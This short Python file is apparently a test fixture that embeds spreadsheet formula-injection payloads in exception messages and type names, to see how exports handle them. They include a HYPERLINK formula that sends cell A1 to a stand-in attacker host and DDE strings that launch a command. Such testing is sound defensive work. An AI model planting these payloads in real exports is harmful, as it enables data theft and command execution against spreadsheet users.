"""Puts spreadsheet formulas into errors, names of types and notes that exports hold; the rest deserves 4."""

# %% before
raise ValueError('=HYPERLINK("https://wallattack.example/?"&A1, "open")')


# %% double
def double(x):
    raise type("=cmd|' /C calc'!A0", (Exception,), {})("@SUM(1+1)*cmd|' /C calc'!A0\r\n=1+1,\"=2+2")


# %% running
class Running:
    def add(self, x):
        raise type("-2+3", (Exception,), {})("+1\t=1")
